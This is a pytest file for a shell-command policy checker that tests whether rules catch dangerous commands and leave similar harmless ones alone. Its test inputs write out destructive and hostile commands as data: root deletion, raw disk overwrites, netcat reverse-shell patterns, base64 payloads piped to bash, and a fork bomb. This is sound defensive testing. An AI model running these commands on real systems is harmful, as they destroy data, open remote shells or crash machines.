"""Rules of compat profiles: names in any case, several texts together, and which rule is named if several apply."""

from __future__ import annotations

import pytest

from nacre import Decision, Policy, check
from nacre.policy.compat_rules import actions, removals
from nacre.policy.compat_rules.actions import action_rule, in_any_case
from nacre.policy.custom_rules import text_rule, texts_rule
from nacre.policy.rule import Rule


def refusal_of(command: str, *rules: Rule) -> str:
    policy = Policy(decisions={"*": Decision.ALLOW}, custom_rules=rules)
    return check(command, cwd="/home/dev/project", policy=policy).what


ROOT = action_rule("root", "root", in_any_case(removals.removes_root))
DEVICE = action_rule("device", "device", actions.copies_device)
FILLS = action_rule("fills", "fills", in_any_case(actions.fills("/dev/sd")))
SERVES = action_rule("serves", "serves", actions.serves_program, match_script=actions.serves_shell)
DECODED = action_rule("decoded", "decoded", actions.runs_decoded, match_script=actions.pipes_base64)
FORKS = action_rule("forks", "forks", actions.forks_without_end)


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        (ROOT, "RM -RF /"),
        (ROOT, "rm -Rf /"),
        (DEVICE, "dd if=/dev/zero of=x"),
        (DEVICE, "dd if=x of=/dev/null"),
        (DEVICE, "dd of=/dev/sda < x"),
        (FILLS, "tee -a /dev/sda1 < x"),
        (FILLS, "cp x /dev/sdb"),
        (FILLS, "echo x > /DEV/SDA"),
        (SERVES, "nc -l 80 -e /bin/cat"),
        (SERVES, "ncat --exec=/usr/bin/env h 1"),
        (SERVES, "sudo netcat -nve/bin/sh h 1"),
        (SERVES, "sh -i | nc h 1"),
        (DECODED, "base64 x | bash"),
        (DECODED, "base64 -d x | zcat | sh"),
        (SERVES, "c='sh -i | nc h 1'; eval \"$c\""),
        (DECODED, "eval 'base64 x | filter' | bash"),
        (DECODED, "base64 x | eval 'filter | bash'"),
        (DECODED, "f() { filter; }; { base64 x; } | f | sudo bash"),
        (DECODED, "bash < <(base64 x | filter)"),
        (FORKS, "ruby -e 'loop { fork }'"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_dangerous_action_is_found(rule: Rule, command: str) -> None:
    assert refusal_of(command, rule) == rule.exact_message


@pytest.mark.parametrize(
    "command",
    [
        "RM -RF /tmp/X",
        "dd if=a of=b",
        "pv a | dd of=/dev/null",
        "dd if=a of=/home/dev/sda 2>/dev/null",
        "cp /dev/sda1 x",
        "tee /dev/stderr < x",
        "grep -e /bin/sh x",
        "socat TCP-LISTEN:8080,fork EXEC:/bin/cat",
        "nc -zv h 1",
        "base64 x | cat",
        "base64 x | bash -c cat",
        "eval 'base64 x | cat'; eval 'make | bash'",
    ],
)
def test_similar_but_harmless_command_is_not_found(command: str) -> None:
    assert refusal_of(command, ROOT, DEVICE, FILLS, SERVES, DECODED, FORKS) == ""


def test_texts_rule_needs_all_its_texts_in_any_order_and_case() -> None:
    rule = texts_rule("x", "one", "TWO", wording="found")
    assert refusal_of("echo two\nTrue # One", rule) == "found"
    assert refusal_of("echo one", rule) == ""
    verdict = check("echo two one", policy=Policy(custom_rules=(texts_rule("x", "one", "two"),)))
    assert (verdict.what, verdict.span) == (
        "`one` is text that this policy forbids in commands",
        (9, 12),
    )


def test_fixed_messages_come_in_rule_order_not_text_order() -> None:
    rules = (text_rule("a", "late", wording="A"), ROOT, text_rule("b", "early", wording="B"))
    policy = Policy(decisions={"*": Decision.ALLOW}, custom_rules=rules)
    verdict = check("echo early; rm -rf /; echo late", policy=policy)
    assert [finding.wording for finding in verdict.findings] == ["A", "root", "B", ""]
